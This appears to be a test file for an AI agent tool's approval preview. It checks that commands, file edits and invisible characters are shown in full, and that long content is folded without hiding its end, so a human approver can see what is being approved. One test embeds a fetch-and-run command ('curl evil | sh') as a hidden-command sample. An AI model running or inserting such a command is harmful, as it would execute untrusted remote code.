"""The preview of a tool call."""

from collections.abc import Sequence
from dataclasses import replace
from pathlib import Path

import pytest

from agent_cli.contracts.events import ToolCall
from agent_cli.contracts.timeline import Json
from agent_cli.repl.approval.changes import BETWEEN, Row
from agent_cli.repl.approval.preview import folded, preview, write_rows
from agent_cli.repl.markdown.cells import cells
from agent_cli.terminal.writer import Style
from tests.fakes import returns, tool


@pytest.mark.parametrize(
    ("given", "shown"),
    [
        (
            {"command": "a\nb\r", "background": True},
            ["$ a", "> b\\r", "background: true"],
        ),
        (
            {"path": "a.py", "edits": [{"old": "x\ny", "new": "z", "all": True}, "odd"]},
            ["path: a.py", "− x", "− y", "+ z", "all: true", '"odd"'],
        ),
        ({"path": "a\u202e.py", "content": "1\n2"}, ["path: a\\u202e.py", "+ 1", "+ 2"]),
        ({"text": "two\nlines", "n": [1]}, ["text:", "  │ two", "  │ lines", "n: [1]"]),
        ({"command": ["not", "text"]}, ['command: ["not", "text"]']),
        ("no object", ["input: no object"]),
    ],
)
def test_preview_shows_the_whole_input_and_escapes_invisible_characters(
    given: Json, shown: list[str]
) -> None:
    """Commands, changes and values; invisible characters appear as escapes."""
    assert [row.text for row in preview(ToolCall("t1", "odd", given), ())] == shown


def test_diff_uses_the_file_that_the_tool_says_it_writes() -> None:
    """The tool resolves the path (@, ~, symlinks); the dialogue does not guess."""
    Path("real.txt").write_text("one\n")
    call = ToolCall("t1", "write", {"path": "@link.txt", "content": "two\n"})
    write = tool("write", returns("done"), writes=lambda _given: [str(Path("real.txt").resolve())])
    several = tool("write", returns("done"), writes=lambda _given: ["a", "b"])

    assert [row.text for row in preview(call, [write])] == [
        "path: @link.txt",
        "    1 − one",
        "    1 + two",
    ]
    for tools in ([], [several]):
        assert preview(call, tools)[1] == Row("+ two", "added")


def test_input_that_its_tool_rejects_is_shown_as_given() -> None:
    """The tool may be gone or replaced since the call: an approval outlives the program."""
    strict = replace(
        tool("write", returns("done"), writes=lambda _given: ["a"]),
        parameters={"type": "object", "required": ["elsewhere"]},
    )

    assert preview(ToolCall("t1", "write", {"path": "a"}), [strict]) == [Row("path: a")]


def test_folded_preview_counts_the_hidden_lines_and_keeps_the_end() -> None:
    """An attacker would hide a command at the end of a long script."""
    rows = [Row(f"line {number}") for number in range(100)]

    assert folded(rows, rows_max=100, columns=20) == tuple(rows)
    assert folded(rows, rows_max=8, columns=20) == (
        *rows[:4],
        Row("      … 93 more lines", "warning"),
        *rows[-3:],
    )


def test_preview_is_not_folded_to_save_only_a_row_or_two() -> None:
    """The note takes a row itself, and it used to hide the removed line of an edit."""
    rows = [Row(f"line {number}") for number in range(9)]

    assert folded(rows, rows_max=8, columns=20) == tuple(rows)


def test_long_line_is_cut_in_the_middle_to_fit_the_free_space() -> None:
    """Threat 8: `; curl … | sh` after 6,000 characters must be visible."""
    [row] = folded([Row("x" * 6_000 + "; curl evil | sh", "added")], rows_max=10, columns=40)

    assert len(row.text) == 400
    assert row.text.startswith("x" * 150)
    assert " … 6,016 characters … " in row.text
    assert row.text.endswith("; curl evil | sh")
    assert folded([Row("x" * 100)], rows_max=10, columns=40) == (Row("x" * 100),)
    assert folded([Row("x" * 300)], rows_max=1, columns=20) == (Row("x" * 10 + "…" + "x" * 9),)


def test_long_line_uses_the_rows_that_short_lines_leave_free() -> None:
    """No row is folded on a half-empty screen."""
    rows = [Row("$ a"), Row("y" * 1_000), Row("> b")]

    shown = folded(rows, rows_max=12, columns=40)

    assert [shown[0], shown[2]] == [rows[0], rows[2]]
    assert len(shown[1].text) == 10 * 40


@pytest.mark.parametrize("text", ["漢" * 100, "\t" * 50], ids=["wide", "tabs"])
def test_line_length_is_counted_in_screen_cells(text: str) -> None:
    """Wide characters take two cells, tabs up to four, and truncated rows fit."""
    assert folded([Row(text)], rows_max=5, columns=40) == (Row(text),)

    [row] = folded([Row(text)], rows_max=4, columns=40)

    assert 155 <= cells(row.text.expandtabs(4)) <= 160


def test_line_that_exactly_fills_a_row_takes_one_row() -> None:
    """Forty cells on forty columns are one row."""
    rows = (Row("x" * 40), Row("y" * 80))

    assert folded(rows, rows_max=3, columns=40) == rows


def test_rows_of_one_style_are_written_together_with_newlines_escaped() -> None:
    """Each write costs a frame; a newline in a name or a reason must not forge a row."""
    written: list[tuple[str, str]] = []

    class Lines:
        def aside(self, text: str, style: Style = "plain") -> None:
            written.append((text, style))

        notice = aside

    rows: Sequence[Row] = [Row("a"), Row("b"), Row("c", "added"), Row("d\nallow? y")]
    write_rows(rows, Lines())

    assert written == [("a\nb", "plain"), ("c", "added"), ("d\\nallow? y", "plain")]


def test_folded_change_counts_changes_and_places() -> None:
    """The reader learns how much of the change is not on the screen."""
    place = [Row("  1 − a", "removed"), Row("  1 + b", "added"), Row("  2   c")]
    change = [*place, BETWEEN] * 4

    assert folded(change, rows_max=8, columns=40)[3] == Row(
        "      … 2 more changes in 2 places", "warning"
    )


def test_folded_change_shows_no_added_line_without_the_removed_one_before_it() -> None:
    """Neither before nor after the note, and no mark of a gap beside the note."""
    pair = (Row("− old", "removed"), Row("+ new", "added"))
    rows = [row for _ in range(9) for row in (*pair, Row("same"), Row("same"), BETWEEN)][:-1]

    for rows_max in range(6, 40):
        shown = folded(rows, rows_max=rows_max, columns=40)
        added = [at for at, row in enumerate(shown) if row == pair[1]]
        assert all(shown[at - 1] == pair[0] for at in added)
        assert shown[-4:] == (*pair, Row("same"), Row("same"))
        assert len(shown) <= rows_max + 2


def test_folded_change_shows_no_lines_that_lead_to_a_hidden_change() -> None:
    """They would stand above the note without the change that they explain."""
    place = [Row("before"), Row("before"), Row("− old", "removed"), Row("behind"), BETWEEN]
    rows = (place * 9)[:-1]

    for rows_max in range(6, 40):
        shown = folded(rows, rows_max=rows_max, columns=40)
        note = next((at for at, row in enumerate(shown) if "more" in row.text), len(shown))
        assert note == 0 or shown[note - 1] in (place[2], place[3]), rows_max


def test_folded_preview_of_one_long_change_counts_lines() -> None:
    """A new file is one change: "1 more change" hid how much of it is not shown."""
    rows = [Row(f"{n:>5} + line", "added") for n in range(60)]

    shown = folded(rows, rows_max=9, columns=40)

    assert shown[5] == Row("      … 52 more lines", "warning")
